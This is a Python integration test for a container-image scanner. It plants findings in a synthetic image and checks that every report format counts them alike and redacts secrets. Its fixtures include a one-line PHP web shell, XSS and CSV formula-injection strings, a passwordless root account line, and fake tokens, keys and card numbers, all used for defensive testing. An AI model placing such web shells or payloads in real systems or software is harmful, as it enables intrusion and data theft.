#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""One image with every kind of finding at once, under hostile names, and a token in every place that takes
a text: all formats hold the same numbers, the same bytes twice, and no token."""
import base64
import csv
import glob
import html.parser
import io
import json
import os
import random
import re
import string
import subprocess
import sys
import tempfile
import time
import zipfile

from clear_text import files_with
from image_maker import save, status, tar
from report_counts import counted, owners_of
from tap import end, ok

PLIMSOLL = os.environ['PLIMSOLL']
FORMATS = ('json', 'table', 'html', 'sarif', 'cyclonedx', 'spdx', 'gitlab', 'junit', 'csv', 'openvex', 'summary')
HOSTILE = ('<script>alert(1)</script>', '=cmd|calc', '\x1b[31mred\u202e', 'new\nline', '"><img src=x onerror=alert(2)>')
tokens = {}
dice = random.Random(11)


def token(name):
    """Another one for each place."""
    return tokens.setdefault(name, 'ghp_' + ''.join(dice.choice(string.ascii_letters + string.digits) for _ in range(36)))


def run(*args, state):
    return subprocess.run([PLIMSOLL, *args, '--state-dir', state], capture_output=True, timeout=120, check=False,
                          stdin=subprocess.DEVNULL)


def luhn(digits):
    total = sum(sum(divmod(int(c) * (2 - i % 2), 10)) for i, c in enumerate(reversed(digits)))
    return digits + str(-total % 10)


def key(n):
    body = base64.encodebytes(bytes(dice.randrange(256) for _ in range(600 + n))).decode()
    return f'-----BEGIN RSA PRIVATE KEY-----\n{body}-----END RSA PRIVATE KEY-----\n'.encode()


def npm(name, version, licence='MIT'):
    return json.dumps({'name': name, 'version': version, 'license': licence}).encode()


def jar(group, artifact, version):
    out = io.BytesIO()
    with zipfile.ZipFile(out, 'w') as z:
        z.writestr(f'META-INF/maven/{group}/{artifact}/pom.properties',
                   f'groupId={group}\nartifactId={artifact}\nversion={version}\n')
    return out.getvalue()


def ground():
    return {'etc/os-release': f'ID=debian\nVERSION_ID="12"\nPRETTY_NAME="{token("os")}"\n'.encode(),
            'etc/passwd': f'root:x:0:0:{token("gecos")}:/root:/bin/sh\ntoor::0:0::/:/bin/sh\n'.encode(),
            'var/lib/dpkg/status': status(('openssl', '3.0.1-1'), ('zlib1g', '1'), ('versioned', token('version'))),
            'usr/share/doc/openssl/copyright': b'Format: https://www.debian.org/doc/packaging-manuals/copyright-format/1.0/\n'
                                               b'Files: *\nLicense: GPL-3+\n x\n',
            'usr/bin/apt-get': (b'#!', 0o755), 'usr/bin/sudo': (b'#!', 0o4755), 'etc/base.key': key(0)}


def application():
    files = {
        'etc/apt/sources.list': b'deb [trusted=yes] http://e.example/ x main\n',
        'etc/pip.conf': f'[global]\nextra-index-url = https://u:{token("index")}@pypi.example.com/x\n'.encode(),
        'root/.npmrc': f'strict-ssl=false\nregistry=https://{token("host")}.example.com/\n'.encode(),
        'app/.git/HEAD': b'ref: refs/heads/main\n', 'app/src/main.ts': b'let x: number\n', 'app/dist/main.js': b'let x\n',
        f'app/{token("folder")}/Dockerfile': b'FROM x\n', f'app/{token("broken")}/node_modules/x/package.json': b'{"name":',
        'app/secret.txt': token('file').encode(), 'app/gone.txt': token('deleted').encode(),
        'app/coded.txt': base64.b64encode(b'a ' + token('coded').encode() + b' b'),
        f'app/{token("webshell")}.php': b'<?php @eval($_POST["x"]); ?>',
        'app/cards.csv': b'card_number\n' + b''.join(
            luhn('4539' + ''.join(dice.choice(string.digits) for _ in range(11))).encode() + b'\n' for _ in range(20)),
        'app/log.jar': jar('org.example', 'log-core', '2.14.1'), f'app/{token("archive")}.jar': jar(token('group'), 'x', '1'),
        'app/node_modules/left/package.json': npm('left', '1.0.0', token('licence')),
        'usr/local/bin/packed': (b'\x7fELF\x02\x01\x01' + b'\0' * 57 + b'UPX!' + b'\1' * 4000, 0o755),
    }
    for n, name in enumerate(HOSTILE):
        files[f'app/{name}.pem'] = key(n + 1)
        files[f'app/node_modules/n{n}/package.json'] = npm(name, '1.0.0', 'GPL-3.0-only')
    return files


def settings():
    return {'Env': [f'API_TOKEN={token("environment")}', f'{token("variable")}=x'], 'Cmd': ['run', '--token', token('command')],
            'Labels': {'a': token('label'), token('label name'): 'x'}, 'User': token('user'), 'WorkingDir': '/' + token('folder of work'),
            'Entrypoint': ['/e', token('entry')], 'Volumes': {'/' + token('volume'): {}}, 'ExposedPorts': {'22/tcp': {}},
            'Healthcheck': {'Test': ['CMD-SHELL', f'curl -H "Authorization: Bearer {token("health")}" x']}}


def feeds(folder):
    now = time.strftime('%Y-%m-%dT%H:%M:%SZ', time.gmtime())
    vector = [{'type': 'CVSS_V3', 'score': 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H'}]
    os.makedirs(folder)
    for name, ecosystem, package, severity in (('CVE-2030-0001', 'Debian:12', 'openssl', []), ('GHSA-2222-3333-4444', 'npm', 'left', vector),
                                               ('GHSA-2222-3333-5555', 'Maven', 'org.example:log-core', vector),
                                               ('GHSA-2222-3333-6666', 'npm', '=cmd|calc', [])):
        with open(f'{folder}/{name}.json', 'w', encoding='utf-8') as f:
            json.dump({'schema_version': '1.7.0', 'id': name, 'modified': now, 'severity': severity, 'affected': [{
                'package': {'ecosystem': ecosystem, 'name': package},
                'ranges': [{'type': 'ECOSYSTEM', 'events': [{'introduced': '0'}, {'fixed': '9'}]}]}]}, f)


def equal_numbers(text):
    doc = json.loads(text['json'])
    want = (len(doc['findings']), len(doc['packages']), len(doc['gaps']), owners_of(doc))
    failed = {f['check'] for f in doc['findings'] if f['verdict'] == 'fail' and f['kind'] == 'check'}
    missing = {'IMG-008', 'IMG-010', 'IMG-011', 'IMG-013', 'IMG-015', 'IMG-021', 'IMG-022', 'IMG-024', 'IMG-027', 'IMG-029', 'IMG-030',
               'IMG-032', 'SUP-012'} - failed
    ok(not missing and len(doc['gaps']) >= 2 and len([f for f in doc['findings'] if f['kind'] == 'vulnerability']) == 4,
       'every kind of finding is there', (missing, doc['gaps']))
    ok(len(want[3]) >= 3, 'of the base, of the application, and of unknown owners', want[3])
    for word in ('sarif', 'cyclonedx', 'spdx', 'junit', 'csv'):
        ok(counted(word, text[word]) == want, f'{word} has as many findings, packages, gaps, and findings of each owner',
           (counted(word, text[word]), want))
    bad = [f['id'] for f in doc['findings'] if f['verdict'] == 'fail']
    gitlab = json.loads(text['gitlab'])
    ok(sorted(v['id'] for v in gitlab['vulnerabilities']) == sorted(bad) and len(gitlab['scan']['messages']) == want[2],
       'GitLab has all that failed, and the gaps', len(gitlab['vulnerabilities']))


def places(text):
    """Where each secret lies, in every form that people mend by."""
    doc = json.loads(text['json'])
    secrets = [f for f in doc['findings'] if f.get('check') == 'IMG-021'][0]
    files = [e['value'] for e in secrets['evidence'] if e['field'] == 'image_secret.where']
    ok(len(files) == sum(o['elements'] for o in secrets['owners']) == len(secrets['marks']) and '/app/gone.txt' in files,
       'the JSON form names each', (files, secrets['owners']))
    result = [r for r in json.loads(text['sarif'])['runs'][0]['results'] if r['ruleId'] == 'IMG-021'][0]
    uris = [(x['physicalLocation']['artifactLocation']['uri'], x['physicalLocation'].get('region')) for x in result['locations']]
    ok(len(uris) == len(files) and ('app/secret.txt', {'startLine': 1}) in uris, 'SARIF has a location for each file', uris)
    for word in ('csv', 'junit', 'gitlab', 'spdx'):
        ok('/app/gone.txt:1 github-token deleted by an upper layer (application)' in text[word], f'{word} says where, what and whose')
    ok('/etc/base.key:1 private-key (base-image)' in text['table'] and 'more: --output json=FILE' in text['table'],
       'the table names the first ones', text['table'])
    ok('/app/gone.txt' in text['html'], 'the page names them')


class Page(html.parser.HTMLParser):
    """What a browser makes of the page: its elements, and their attributes."""
    def __init__(self, text):
        super().__init__()
        self.elements, self.handlers, self.shown = set(), [], ''
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.elements.add(tag)
        self.handlers += [a for a, _ in attrs if a.startswith('on')]

    def handle_data(self, data):
        self.shown += data


def harmless(text):
    page = Page(text['html'])
    ok(not {'script', 'img', 'iframe', 'object'} & page.elements and not page.handlers and '<script>alert(1)' in page.shown,
       'hostile names are text in the page', (page.elements, page.handlers))
    cells = [c for r in csv.reader(io.StringIO(text['csv'], newline='')) for c in r]
    ok(not [c for c in cells if c[:1] in ('=', '+', '-', '@', '\t', '\r')] and "'=cmd|calc" in cells, 'no cell is a formula')
    for word in FORMATS:
        ok(not re.search('[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]', text[word]), f'{word}: no control character')


def clear_text(folder, said):
    with open(f'{folder}/said', 'wb') as f:
        f.write(said)
    # A name joined to more by a hyphen, or in the letters of another case, is no token any more.
    hits = {name: files_with(value, folder, ('.tar',)) for name, value in tokens.items()}
    ok(not [n for n, found in hits.items() if found], f'none of {len(tokens)} tokens is in any output or in what is kept',
       {n: found for n, found in hits.items() if found})


def timeless(raw):
    """The document without its times, and what follows from them."""
    return re.sub(rb'"[0-9]{4}-[0-9]{2}-[0-9]{2}T[0-9:.]+Z"|"(index|leaf|root|size|checkpoint|entry|bytes)": [^\n]*', b'T', raw)


def main():
    with tempfile.TemporaryDirectory(prefix='plimsoll-everything.') as top:
        state, path, out = f'{top}/state', f'{top}/app.tar', f'{top}/out'
        os.makedirs(out)
        feeds(f'{top}/osv')
        with open(f'{top}/plimsoll.yaml', 'w', encoding='utf-8') as f:
            f.write('policy:\n  denied_licenses: ["GPL-*"]\n  declared_image_ports: [8080/tcp]\n')
        base = tar(ground())
        steps = ['ADD file:1 in /', 'CMD ["bash"]']
        save(f'{top}/base.tar', 'corp/base:1', [base], steps)
        save(path, f'corp/{token("reference")}:{token("tag")}', [base, tar(application()), tar({'app/gone.txt': None, 'app/.git': None})],
             steps + [f'|1 ARG={token("argument")} /bin/sh -c echo {token("history")}', 'COPY gone'], settings())
        said = b''
        for args in (('db', 'update', '--source', f'{top}/osv'), ('base', 'add', f'{top}/base.tar')):
            done = run(*args, state=state)
            said += done.stdout + done.stderr
            ok(done.returncode == 0, ' '.join(args[:2]), done.stderr)
        files = {w: f'{out}/report.{w}' for w in FORMATS}
        done = run('scan', path, '--config', f'{top}/plimsoll.yaml', '--verbose', '--log-level', 'debug',
                   *[a for w, f in files.items() for a in ('--output', f'{w}={f}')], state=state)
        said += done.stdout + done.stderr
        ok(done.returncode == 0, 'it is scanned', done.stderr)
        text = {w: open(f, encoding='utf-8', newline='').read() for w, f in files.items()}
        equal_numbers(text)
        places(text)
        harmless(text)
        for args in (('ledger', 'show'), ('affected', 'openssl'), ('affected', 'left', '--format', 'json'), ('base', 'list'),
                     ('report', '--format', 'table'), ('cache', 'status')):
            done = run(*args, state=state)
            said += done.stdout + done.stderr
        with open(path, 'rb') as f, open(f'{top}/half.tar', 'wb') as g:
            whole = f.read()
            g.write(whole[:whole.index(b'app/cards.csv') + 600])
        done = run('scan', f'{top}/half.tar', state=state)
        said += done.stdout + done.stderr
        twice = [run('scan', path, '--quiet', '--format', 'json', '--config', f'{top}/plimsoll.yaml', *more, state='none').stdout
                 for more in ((), ('--no-cache',))]
        ok(timeless(twice[0]) == timeless(twice[1]) and len(twice[0]) > 10000, 'the same JSON twice, but for times')
        said += twice[0]
        clear_text(top, said)
        ok(not glob.glob(f'{top}/**/core*', recursive=True) and not os.listdir(f'{state}/spool') if os.path.isdir(f'{state}/spool') else True,
           'nothing is left behind')
    return end()


sys.exit(main())
